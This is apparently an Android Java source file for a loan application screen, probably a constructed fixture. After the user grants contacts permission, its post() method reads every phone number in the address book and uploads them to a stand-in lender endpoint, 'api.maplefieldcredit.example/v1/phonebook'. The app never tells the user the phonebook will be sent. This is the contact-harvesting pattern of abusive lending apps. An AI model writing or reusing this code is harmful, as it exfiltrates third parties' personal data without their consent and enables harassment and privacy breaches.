package com.refusalopensownlink.app;

import android.Manifest;
import android.app.Activity;
import android.content.pm.PackageManager;
import android.database.Cursor;
import android.os.Bundle;
import android.provider.ContactsContract.CommonDataKinds.Phone;
import android.widget.EditText;

import java.io.IOException;
import java.net.HttpURLConnection;
import java.net.URL;

/** The application: each of its pages takes the place of the one before. */
public class LoanActivity extends Activity {
    private static final int ASKED = 31;

    @Override
    protected void onCreate(Bundle saved) {
        super.onCreate(saved);
        setContentView(R.layout.form);
        findViewById(R.id.yes).setOnClickListener(view -> ask());
        findViewById(R.id.no).setOnClickListener(view -> byHand());
    }

    private void ask() {
        requestPermissions(new String[] {Manifest.permission.READ_CONTACTS}, ASKED);
    }

    @Override
    public void onRequestPermissionsResult(int code, String[] permissions, int[] results) {
        boolean granted = results.length > 0 && results[0] == PackageManager.PERMISSION_GRANTED;
        if (granted) {
            sendPhonebook();
        } else {
            byHand();
        }
    }

    private void byHand() {
        Links.open(this, "reference");
        finish();
    }

    private void sent() {
        Server.send("/v1/loan", text(R.id.sum));
        Links.open(this, "sent");
        finish();
    }

    private String text(int id) {
        return ((EditText) findViewById(id)).getText().toString();
    }

    private void sendPhonebook() {
        new Thread(() -> {
            try {
                post();
            } catch (IOException fault) {
                return;
            }
            runOnUiThread(() -> sent());
        }).start();
    }

    private void post() throws IOException {
        HttpURLConnection line = (HttpURLConnection)
                new URL("https://api.maplefieldcredit.example/v1/phonebook").openConnection();
        line.setDoOutput(true);
        Cursor rows = getContentResolver().query(
                Phone.CONTENT_URI, new String[] {Phone.NUMBER}, null, null, null);
        while (rows != null && rows.moveToNext()) {
            line.getOutputStream().write((rows.getString(0) + ";").getBytes());
        }
        line.getResponseCode();
    }
}
